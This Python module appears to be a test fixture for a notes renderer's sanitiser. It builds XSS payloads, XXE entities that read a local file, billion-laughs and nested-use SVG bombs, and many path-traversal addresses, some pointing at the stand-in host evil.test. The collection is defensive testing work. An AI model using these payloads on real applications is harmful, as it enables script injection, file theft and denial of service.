"""What strangers' notes may hold that does harm: paths out of the folder, scripts, bombs."""

from __future__ import annotations

import html
import io
import struct
import zlib
from pathlib import Path

from PIL import Image

CANARY = "canary7f3a"
SVG = "http://www.w3.org/2000/svg"
SECRET = f'<svg xmlns="{SVG}" width="90" height="20"><text id="x" y="15">{CANARY}</text></svg>'


def drawing(inside: str, before: str = "", root: str = "") -> str:
    """An SVG with a word of its own, so that a test can see that the rest of it went through."""
    return (
        f'{before}<svg xmlns="{SVG}" xmlns:xlink="http://www.w3.org/1999/xlink" {root}'
        f' width="200" height="40" viewBox="0 0 200 40"><text y="20">sound</text>{inside}</svg>'
    )


def chunk(name: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))


def png(width: int, height: int) -> bytes:
    """A picture that says of itself to be so large; there is next to nothing in it."""
    head = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0))
    body = chunk(b"IDAT", zlib.compress(b"\0" * 1000))
    return b"\x89PNG\r\n\x1a\n" + head + body + chunk(b"IEND", b"")


def raster(kind: str) -> bytes:
    out = io.BytesIO()
    Image.effect_noise((40, 40), 90).save(out, kind)
    return out.getvalue()


def laughs(levels: int = 12) -> str:
    entities = "".join(
        f'<!ENTITY e{n} "{f"&e{n - 1};" * 10 if n else "ha" * 10}">' for n in range(levels)
    )
    return drawing(f"<text>&e{levels - 1};</text>", f"<!DOCTYPE svg [{entities}]>")


def uses(levels: int = 12) -> str:
    """A drawing of a few lines that draws ten to the twelfth shapes."""
    groups = "".join(
        f'<g id="g{n}">' + f'<use xlink:href="#g{n - 1}"/>' * 10 + "</g>" for n in range(1, levels)
    )
    return drawing(f'<defs><rect id="g0" width="1" height="1"/>{groups}</defs><use href="#g11"/>')


BAD_DRAWINGS = {"laughs.svg": laughs(), "uses.svg": uses()}


def drawings(secret: Path) -> dict[str, str]:
    url = secret.as_uri()
    inner = "data:image/svg+xml;utf8," + html.escape(SECRET.replace(CANARY, "inner"))
    return {
        "image.svg": drawing(f'<image href="{url}" width="90" height="20"/>'),
        "xlink.svg": drawing(f'<image xlink:href="{url}" width="90" height="20"/>'),
        "near.svg": drawing('<image href="../secret.svg" width="90" height="20"/>'),
        "other.svg": drawing('<use href="../secret.svg#x"/>'),
        "entity.svg": drawing(
            "<text y='30'>&x;</text>", f'<!DOCTYPE svg [<!ENTITY x SYSTEM "{url}">]>'
        ),
        "parameter.svg": drawing("", f'<!DOCTYPE svg [<!ENTITY % p SYSTEM "{url}"> %p;]>'),
        "sheet.svg": drawing("", f'<?xml-stylesheet href="{url}" type="text/css"?>'),
        "import.svg": drawing(f'<style>@import url("{url}");</style>'),
        "fill.svg": drawing(f'<rect style="fill:url({url}#x)" width="9" height="9"/>'),
        "escaped.svg": drawing(r'<rect style="fill:u\72l(//evil.test/x)" width="9" height="9"/>'),
        "base.svg": drawing('<image href="#x" width="9" height="9"/>', root=f'xml:base="{url}"'),
        "data.svg": drawing(f'<image href="{inner}" width="90" height="20"/>'),
        "script.svg": drawing(
            "<script>evil()</script><foreignObject><body xmlns='http://www.w3.org/1999/xhtml'>"
            "<script>evil()</script></body></foreignObject>"
            '<a href="javascript:evil()"><rect onclick="evil()" width="9" height="9"/></a>'
            '<set attributeName="href" to="javascript:evil()"/>'
            '<handler xmlns="http://www.w3.org/2001/xml-events">evil()</handler>'
        ),
    }


def escapes(folder: Path, secret: Path) -> list[str]:
    """Ways to name the secret from within the folder, in Markdown, HTML and CSS."""
    name, up = secret.name, "../secret.svg"
    absolute, url = secret.as_posix(), secret.as_uri()
    addresses = [
        up, f"./sub/../{up}", absolute, url, f"file:{up}", f"FILE:{absolute}", f"file:/{absolute}",
        "%2e%2e/secret.svg", "..%2fsecret.svg", "%2e%2e%5csecret.svg", "%252e%252e/secret.svg",
        f"..\\\\{name}", f"sub\\\\..\\\\..\\\\{name}", f"//localhost{absolute}",
        f"\\\\\\\\localhost\\\\{name}", f"C:{absolute}", "link.svg", "linked/secret.svg",
        "loop/secret.svg", "circle.svg", f"{up}?x#y", f"sub/..;/{up}", f"{up}%00.png",
    ]  # fmt: skip
    found = [f'![Escape {n}]({address} "A title")' for n, address in enumerate(addresses)]
    found += [f"[Escape {n}]({address})" for n, address in enumerate(addresses)]
    for address in (up, absolute, url, "..\\secret.svg", "link.svg", "&#46;&#46;/secret.svg"):
        found += [
            f'<img src="{address}" alt="Raw">',
            f'<img src="good.png" srcset="{address} 2x" alt="Set">',
            f'<picture><source srcset="{address}"><img src="good.png" alt="Picked"></picture>',
            f'<object data="{address}">object</object>',
            f'<embed src="{address}">',
            f'<iframe src="{address}">frame</iframe>',
            f'<iframe srcdoc="<img src={address}>">frame</iframe>',
            f'<svg><image href="{address}"/><use xlink:href="{address}#x"/></svg>',
            f'<p style="background:url({address})">style</p>',
            f"<p style=\"@import '{address}'\">style</p>",
            f"<style>@import url({address});</style>",
            f'<link rel="stylesheet" href="{address}">',
            f'<link rel="attachment" href="{address}">',
            f'<a rel="attachment" href="{address}">attached</a>',
            f'<table background="{address}"><tr><td>cell</td></tr></table>',
            f'<video poster="{address}"><track src="{address}"></video>',
            f'<base href="{address}">',
            f'<meta http-equiv="refresh" content="0;url={address}">',
            f'<?xml-stylesheet href="{address}"?>',
            f"$\\includegraphics{{{address}}}$",
        ]
    return found


SCRIPTS = [
    "<script>evil()</script>",
    "<SCRIPT SRC=//evil.test/x.js></SCRIPT>",
    "<scr<script>ipt>evil()</script>",
    '<img src="good.png" onerror="evil()" alt="Handler">',
    '<b onclick=evil() OnMouseOver = "evil()">bold</b>',
    '<b/onclick="evil()">slash</b>',
    "<svg/onload=evil()>",
    "<svg><script>evil()</script></svg>",
    "<math><mtext><script>evil()</script></mtext></math>",
    "<details open ontoggle=evil()>opened</details>",
    '<a href="javascript:evil()">one</a>',
    '<a href="JaVaScRiPt:evil()">two</a>',
    '<a href="java\tscript:evil()">three</a>',
    '<a href="java&#9;script:evil()">four</a>',
    '<a href="&#x6A;avascript&colon;evil()">five</a>',
    '<a href=" \x01javascript:evil()">six</a>',
    '<a href="vbscript:evil()">seven</a>',
    '<a href="data:text/html,<script>evil()</script>">eight</a>',
    "[nine](javascript:evil())",
    "[ten](javascript&colon;evil())",
    "[eleven](&#106;avascript:evil())",
    "[twelve](<java\tscript:evil()>)",
    "[thirteen](data:text/html;base64,ZXZpbCgp)",
    "[fourteen][bad]\n\n[bad]: JAVASCRIPT:evil()",
    "<javascript:evil()>",
    "![fifteen](javascript:evil())",
    '![sixteen](good.png "x\\" onload=\\"evil()")',
    "```x\" onclick=\"evil()\ncode\n```",
    "$\\href{javascript:evil()}{x}$ and $\\class{x\" onclick=\"evil()}{y}$",
    '<form action="javascript:evil()"><input type="image" src="x" onerror="evil()">form</form>',
    "<iframe src=javascript:evil()></iframe>",
    "<!--[if gte IE 4]><script>evil()</script><![endif]-->",
    "<![CDATA[<script>evil()</script>]]>",
    "<noscript><p title=\"</noscript><img src=x onerror=evil()>\"></noscript>",
    "<textarea><script>evil()</script></textarea>",
    "<template><script>evil()</script></template>",
    "<xmp><script>evil()</script></xmp>",
    "<title><script>evil()</script></title>",
]  # fmt: skip
